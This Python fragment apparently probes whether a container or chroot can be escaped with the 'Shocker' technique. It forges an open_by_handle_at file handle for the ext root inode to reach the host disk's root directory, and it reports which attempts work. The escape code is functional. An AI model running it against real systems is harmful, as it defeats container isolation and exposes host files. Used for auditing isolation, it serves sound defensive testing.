# "Shocker": files by their handles, past every mount and chroot.
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]


def handle_of(path):
    handle, mount = Handle(bytes=128), ctypes.c_int()
    pointer = ctypes.cast(ctypes.pointer(handle), ctypes.c_void_p).value
    sys_call("name_to_handle_at", -100, path.encode() + b"\0", pointer, ctypes.addressof(mount), 0)
    return handle


def by_handle(handle, place):
    fd = os.open(place, os.O_RDONLY)
    pointer = ctypes.cast(ctypes.pointer(handle), ctypes.c_void_p).value
    return os.readlink("/proc/self/fd/%d" % sys_call("open_by_handle_at", fd, pointer, os.O_RDONLY))


def root_of_disk():
    """Inode 2, generation 0: the root directory of an ext file system."""
    handle = Handle(bytes=8, type=1)
    ctypes.memmove(handle.data, struct.pack("<II", 2, 0), 8)
    return handle


print("handles: as", os.getuid())
tried("open_by_handle_at, own file", lambda: by_handle(handle_of(sys.argv[1]), sys.argv[1]))
for place in sys.argv[2:]:
    tried(f"open_by_handle_at, root of the disk by {place}", lambda: by_handle(root_of_disk(), place))
